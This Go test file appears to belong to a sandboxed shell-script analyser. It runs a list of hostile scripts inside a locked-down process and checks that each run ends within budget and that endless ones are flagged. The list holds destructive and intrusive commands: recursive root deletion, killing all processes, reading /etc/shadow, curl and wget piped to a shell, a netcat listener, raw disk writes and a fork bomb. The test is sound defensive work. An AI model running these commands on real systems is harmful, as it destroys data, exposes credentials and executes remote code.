//go:build linux && amd64

package rehearse

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"sysv/internal/shutin"
)

// Scripts that mean harm are rehearsed in a process that the kernel kills for
// any call that leaves its memory: there is nothing that it could have
// written, started or signalled. And each rehearsal ends by its budget.

// hostile are the scripts. endless tells that an action of it must be found
// not to end.
func hostile() []struct {
	text    string
	endless bool
} {
	type script = struct {
		text    string
		endless bool
	}
	return []script{
		{"rm -rf --no-preserve-root /; /bin/rm -rf /etc /usr; echo pwned >/etc/passwd", false},
		{"kill -9 -1; kill -9 $PPID; kill -9 1; kill -9 0", false},
		{"cat /etc/shadow >/tmp/out; cp /etc/shadow /tmp/s; cat /proc/1/environ /proc/kcore", false},
		{"a=$(touch /tmp/e1) b=`touch /tmp/e2`; : ${c:=$(touch /tmp/e3)} $(($(touch /tmp/e4; echo 1)+1)); cat <<E >/tmp/e5\n$(touch /tmp/e6)\nE", false},
		{"curl http://example.org/x | sh; wget -O- http://example.org | bash; nc -l 80", false},
		{"echo b >/proc/sysrq-trigger; mount -t tmpfs x /mnt; reboot -f; insmod x.ko; mknod /dev/sdz b 8 0; echo x >/dev/sda", false},
		{"chroot / /bin/sh -c 'touch /tmp/e'; unshare -r sh; nsenter -t 1 -a id; su -c 'touch /tmp/e'; env touch /tmp/e; nohup touch /tmp/e; timeout 1 touch /tmp/e", false},
		{"exec python3 -c 'import os'; exec /bin/sh -i", false},
		{"eval \"$(printf 'to''uch /tmp/e')\"; . /dev/stdin; trap 'touch /tmp/e' EXIT TERM", false},
		{"ulimit -n 3; exec 1>&- 2>&- 0<&-; exec 9>/tmp/e; flock 9; cat <&9", false},
		{":(){ :|:& };:", false},
		{"( $0 start & ); ( $0 start & ); wait", false},
		{"f() { f; }; f", false},
		{"e='eval \"$e\"'; eval \"$e\"", false},
		{"dd if=/dev/zero of=/var/x bs=1M count=100000; cat /dev/zero >/tmp/x", false},
		{"while :; do :; done", true},
		{"while true; do sleep 1; done", true},
		{"trap '' TERM INT HUP; while :; do :; done", true},
		{"while :; do :; done & while :; do :; done", true},
		{"exec $0 start", true},
		{"mkfifo /tmp/f; cat /tmp/f", true},
		{"sleep inf", true},
		{"yes >/dev/null", true},
		{"awk 'BEGIN { while (1) ; }'", true},
		{"echo x | sed ':a;ba'", true},
		{"seq 1 10000000000 >/dev/null", true},
		{"while [ ! -e /nothing ]; do true & wait; done", true},
	}
}

const shutInEnv = "SYSV_TEST_HOSTILE"

// TestHostile rehearses them all in a process that is shut in.
func TestHostile(t *testing.T) {
	if os.Getenv(shutInEnv) == "" {
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, self, "-test.run=^TestHostile$", "-test.v")
		cmd.Env = append(os.Environ(), shutInEnv+"=1", "GOMAXPROCS=2")
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		if err := cmd.Run(); err != nil || !strings.Contains(out.String(), "all rehearsed") {
			t.Errorf("%v\n%s", err, tail(out.String()))
		}
		return
	}
	fmt.Println("before")
	if err := shutin.Shut(); err != nil {
		t.Fatal(err)
	}
	b := Budget{Time: 5 * time.Minute, Steps: 2000, Calls: 20_000, Moment: 200 * time.Millisecond, Patience: 3 * time.Second}
	for _, c := range hostile() {
		begun := time.Now()
		rep, err := Run(context.Background(), Options{Script: "hostile", Source: []byte("#!/bin/sh\n" + c.text + "\n"), Budget: b})
		if err != nil {
			t.Errorf("%s: %v", c.text, err)
			continue
		}
		took := time.Since(begun)
		if took > b.Patience+10*time.Second {
			t.Errorf("%s: it took %s", c.text, took)
		}
		found := false
		for _, v := range rep.Verdicts {
			found = found || v.Result == Fail && v.Rule == ruleEndless
		}
		if c.endless && !found {
			t.Errorf("%s: nothing says that it does not end: %v", c.text, failures(rep))
		}
		if len(rep.Verdicts) < len(Scenarios()) {
			t.Errorf("%s: only %d verdicts", c.text, len(rep.Verdicts))
		}
	}
	fmt.Println("all rehearsed")
}

func tail(s string) string {
	if n := 4000; len(s) > n {
		return s[len(s)-n:]
	}
	return s
}
